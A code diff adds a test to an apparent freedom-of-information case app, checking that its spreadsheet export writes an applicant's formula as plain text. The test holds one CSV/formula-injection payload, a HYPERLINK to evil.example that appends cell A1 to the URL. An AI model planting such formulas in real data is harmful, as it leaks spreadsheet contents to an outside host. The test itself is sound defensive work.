@@ -343,3 +343,18 @@ def test_a_refused_action_is_shown_beside_its_field(client, county, today):
     login(client, county.leader)
     r = client.post(reverse("foi:act", args=[case.pk, "extension"]), {"days": "5", "reason": "x"})
     assert r.status_code == 403
+
+
+def test_export_writes_an_applicants_formula_as_text(client, county, today):
+    """An applicant's ``=HYPERLINK(…)`` must not become a live formula in the office's spreadsheet."""
+    from openpyxl import load_workbook
+
+    today(D(2026, 10, 20))
+    payload = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
+    case = make_case(county).case
+    InfoRequest.objects.filter(pk=case.pk).update(description=payload)
+    login(client, county.officer)
+    sheet = load_workbook(io.BytesIO(client.get(reverse("foi:export")).content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert "'" + payload in [cell.value for cell in cells]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
